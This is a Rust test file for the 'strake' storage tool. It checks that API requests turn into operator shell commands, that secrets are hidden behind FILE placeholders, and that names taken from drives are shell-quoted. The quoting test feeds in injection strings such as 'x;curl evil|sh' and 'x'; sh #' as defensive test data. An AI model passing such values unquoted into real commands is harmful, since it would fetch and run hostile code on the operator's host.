use crate::{
    Amendment, ApiCommand, Command, EachRequest, Text, command, each_request, has_request, import,
    replace, say, show, shown,
};
use serde::Serialize;
use serde::de::DeserializeOwned;
use serde_json::{Value, json};
use strake_api::v1 as api;
use strake_api::v1::TextPart;

/// Fields without a text of their own in a command: a document is too long, the kind of a hook determines the text of
/// its other fields, and no remedy names the values of the remaining fields.
const UNTYPED: [&str; 8] =
    ["json", "target", "from", "server", "interval_us", "object", "kind", "severity"];

/// The number of checked fields.
struct Fields(usize);

impl EachRequest for Fields {
    fn request<R: ApiCommand + Default + Serialize + DeserializeOwned>(&mut self, request: &str) {
        let plain = R::default().line();
        let default = serde_json::to_value(R::default()).expect("it has a JSON form");
        let names = default.as_object().expect("a message is an object").keys();
        for name in names.filter(|name| !UNTYPED.contains(&name.as_str())) {
            let snapshots = json!([{ "volume": "tank/vm1", "name": "before" }]);
            let values = [json!(true), json!(7), json!("repair"), json!(["one", "two"]), snapshots];
            let differs = values.into_iter().any(|value| {
                let mut changed = default.clone();
                changed[name] = value;
                serde_json::from_value(changed).is_ok_and(|request: R| request.line() != plain)
            });
            assert!(differs, "{request}: {name} is missing in {plain:?}");
            self.0 += 1;
        }
    }
}

/// The history: the record of `export create` lacked `--via`, `--nqn`, `--allow-host`, `--namespace` and `--secure`.
/// The record of `array create` lacked `--strip`, `--block-size` and `--consistency`.
#[test]
fn every_option_of_a_request_is_typed() {
    let mut fields = Fields(0);
    each_request(&mut fields);
    assert!(fields.0 > 100, "{} fields were looked at", fields.0);
}

#[test]
fn requests_are_typed_as_operators_type_them() {
    fn check(request: &impl ApiCommand, expected: &str) {
        assert_eq!(request.line().advised, expected);
    }
    check(
        &api::CreateExportRequest {
            array: "tank".into(),
            name: "t".into(),
            via: "nvme-tcp".into(),
            listen: "10.0.0.1:4420".into(),
            nqn: "nqn.a".into(),
            allow_hosts: vec!["nqn.b".into(), "nqn.c".into()],
            namespace: 2,
            secure: true,
            insecure: false,
            read_only: true,
        },
        "export create tank --name t --via nvme-tcp --listen 10.0.0.1:4420 --nqn nqn.a --allow-host nqn.b \
         --allow-host nqn.c --namespace 2 --secure --read-only",
    );
    check(
        &api::CreateArrayRequest {
            name: "tank".into(),
            level: "50".into(),
            drives: vec!["a".into(), "b".into()],
            strip_bytes: 65536,
            group_size: Some(3),
            block_bytes: Some(512),
            consistency: "strict".into(),
            overwrite: true,
            dry_run: false,
        },
        "array create tank --level 50 --drives a,b --strip 65536 --group-size 3 --block-size 512 --consistency strict \
         --overwrite",
    );
    let settings = api::SetArrayRequest {
        name: "tank".into(),
        auto_replace: Some(true),
        scrub_repair: Some(false),
        scrub_every_s: Some(14 * 24 * 3600),
        ..Default::default()
    };
    check(&settings, "array set tank --auto-replace on --scrub-every 14d --scrub-repair off");
    check(&api::CreatePoolRequest::default(), "pool create POOL ARRAY");
    let volume = api::CreateVolumeRequest {
        name: "tank/vm1".into(),
        size_bytes: 100 << 30,
        quota_bytes: (1 << 30) + 512,
        ..Default::default()
    };
    check(&volume, "volume create tank/vm1 100GiB --quota 1073742336");
    check(
        &api::CreateVolumeRequest { size_bytes: 0, ..volume },
        "volume create tank/vm1 SIZE --quota 1073742336",
    );
    let new =
        |volume: &str, name: &str| api::NewSnapshot { volume: volume.into(), name: name.into() };
    check(
        &api::CreateSnapshotsRequest {
            snapshots: vec![new("tank/db", "db-1"), new("tank/log", "log-1")],
            dry_run: false,
        },
        "snapshot create tank/db db-1 tank/log log-1",
    );
    let name = || "tank/vm1".to_owned();
    let set = |thick, quota_bytes| api::SetVolumeRequest { name: name(), thick, quota_bytes };
    check(&set(Some(false), Some(0)), "volume set tank/vm1 --thin --quota none");
    check(&set(Some(true), None), "volume set tank/vm1 --thick");
    let limits = api::SetQosRequest {
        kind: "volume".into(),
        name: name(),
        iops: Some(10_000),
        read_iops: Some(0),
        bandwidth_bytes: Some(200 << 20),
        burst_ms: 500,
        ..Default::default()
    };
    check(
        &limits,
        "qos set volume tank/vm1 --iops 10000 --read-iops none --bandwidth 200MiB --burst-ms 500",
    );
    check(
        &api::RollbackVolumeRequest { name: name(), ..Default::default() },
        "snapshot rollback tank/vm1 SNAPSHOT",
    );
    check(&replace("tank", Some(2), ""), "array replace tank --member 2 --with DRIVE");
    check(&replace("tank", None, "sda"), "array replace tank --member N --with sda");
    // The record of commands has no placeholder.
    let typed = replace("tank", Some(2), "").line().typed;
    assert_eq!(typed, "array replace tank --member 2 --with ''");
    assert_eq!(
        api::CreateExportRequest::default().line().typed,
        "export create '' --via nbd --listen ''"
    );
}

/// Some readers of the record of commands are not allowed to know the secrets.
#[test]
fn secrets_and_keys_are_never_typed() {
    let secret = "DHHC-1:00:hidden:".to_owned();
    let host = api::AddHostRequest {
        nqn: "nqn.a".into(),
        secret: secret.clone(),
        controller_secret: secret.clone(),
        tls_key: secret.clone(),
        ..Default::default()
    };
    let files = "--secret-file FILE --controller-secret-file FILE --tls-key-file FILE";
    assert_eq!(command(&host), format!("strake host add nqn.a {files}"));
    let drive = api::ConnectDriveRequest {
        address: "nvme-tcp://a/b".into(),
        secret: secret.clone(),
        controller_secret: secret.clone(),
        tls_key: secret,
        ..Default::default()
    };
    assert_eq!(command(&drive), format!("strake drive connect nvme-tcp://a/b {files}"));
}

#[test]
fn an_amendment_belongs_to_some_requests() {
    let export = api::CreateExportRequest {
        array: "tank".into(),
        via: "nbd".into(),
        listen: "127.0.0.1:1".into(),
        ..Default::default()
    };
    let amended = export.amended(Amendment::Address).expect("it listens");
    assert_eq!(command(&amended), "strake export create tank --via nbd --listen ADDRESS");
    assert_eq!(export.amended(Amendment::Force), None);
    let unload = api::UnloadArrayRequest { name: "tank".into(), ..Default::default() };
    let amended = unload.amended(Amendment::Force).expect("it may disconnect clients");
    assert_eq!(command(&amended), "strake array unload tank --force");
    assert_eq!(unload.amended(Amendment::Address), None);
    let start = api::StartDaemon { state_dir: "DIR".into(), cores: "0,2".into() };
    assert_eq!(command(&start), "strake daemon start --state-dir DIR --cores 0,2");
}

#[test]
fn a_text_and_its_parts_say_the_same() {
    let degraded = api::ImportArraysRequest { allow_degraded: true, ..import("tank") };
    let text = say("return it, or: ").run(degraded).say("; then ").then(Text::from(show("tank")));
    assert_eq!(
        text.words,
        "return it, or: strake array import tank --degraded; then strake array show tank"
    );
    assert_eq!(shown(&text.parts, "other"), text.words);
    assert!(has_request(&text.parts) && !has_request(&say("wait").parts));
    assert_eq!(say("").parts, []);
    // A request that a newer daemon names, and one with a field that only a newer daemon knows.
    let newer = "other (written by a newer version of strake)";
    let mut parts = text.parts;
    parts[1].part_bytes += 3;
    assert_eq!(shown(&parts, "other"), newer);
    parts[1].part_bytes -= 3;
    parts.push(TextPart::default());
    assert_eq!(shown(&parts, "other"), newer);
    // An older daemon sends none.
    assert_eq!(shown(&[], "other"), "other");
}

#[test]
fn a_part_has_the_names_of_the_proto_file_as_json() {
    let text = say("see ").run(show("tank"));
    let json = serde_json::to_value(&text.parts).expect("messages have a JSON form");
    assert_eq!(
        json,
        json!([
            { "words": "see ", "part_bytes": 0 },
            { "get_array": { "name": "tank" }, "part_bytes": 8 },
        ])
    );
    let back: Vec<TextPart> = serde_json::from_value(json).expect("it reads back");
    assert_eq!(back, text.parts);
    // What a newer version wrote to the file of events.
    let newer: Value = json!([{ "words": "see " }, { "get_planet": { "name": "v" } }]);
    let newer: Vec<TextPart> = serde_json::from_value(newer).expect("it is passed over");
    assert_eq!(shown(&newer, "other"), "other (written by a newer version of strake)");
    let newer = json!([{ "get_array": { "name": "tank", "at": 7 }, "part_bytes": 10 }]);
    let newer: Vec<TextPart> = serde_json::from_value(newer).expect("the field is passed over");
    assert_eq!(shown(&newer, "other"), "other (written by a newer version of strake)");
}

/// Addresses of webhooks and mail servers may contain passwords, and a backup is long. Therefore the command has `FILE`
/// instead.
#[test]
fn hooks_and_backups_are_typed_without_what_files_hold() {
    let hook = |kind: &str, target: &str| api::AddHookRequest {
        name: "ops".into(),
        kind: kind.into(),
        target: target.into(),
        ..Default::default()
    };
    let webhook = hook("webhook", "https://u:secret@h/");
    assert_eq!(webhook.line().typed, "hook add ops --webhook-file FILE");
    assert_eq!(hook("exec", "/bin/a b").line().typed, "hook add ops --exec '/bin/a b'");
    let mail = api::AddHookRequest {
        server: "smtps://u:secret@h:465".into(),
        from: "a@h".into(),
        ..hook("email", "b@h")
    };
    assert_eq!(mail.line().typed, "hook add ops --email b@h --server-file FILE --from a@h");
    assert_eq!(api::RestoreConfigRequest::default().line().typed, "config restore FILE");
}

/// An operator may paste a command with names and addresses that come from a drive or a remote host.
#[test]
fn what_a_drive_spells_is_one_word_of_the_command() {
    let offer = |nqn: &str| {
        let request = api::CreateExportRequest { nqn: nqn.into(), ..Default::default() };
        request.line().advised
    };
    assert_eq!(offer("nqn.x:[::1]"), "export create --nqn 'nqn.x:[::1]'");
    assert_eq!(offer("=ls"), "export create --nqn '=ls'");
    assert_eq!(offer("~root"), "export create --nqn '~root'");
    assert_eq!(offer("a=b~"), "export create --nqn a=b~");
    assert_eq!(offer("x;curl evil|sh"), "export create --nqn 'x;curl evil|sh'");
    assert_eq!(offer("x'; sh #"), "export create --nqn 'x'\\''; sh #'");
    assert_eq!(offer("x\nsh\r\u{1b}["), "export create --nqn 'x\u{fffd}sh\u{fffd}\u{fffd}['");
    let connect =
        api::ConnectDriveRequest { address: "nvme-tcp://a/b?nsid=2".into(), ..Default::default() };
    assert_eq!(connect.line().typed, "drive connect 'nvme-tcp://a/b?nsid=2'");
}
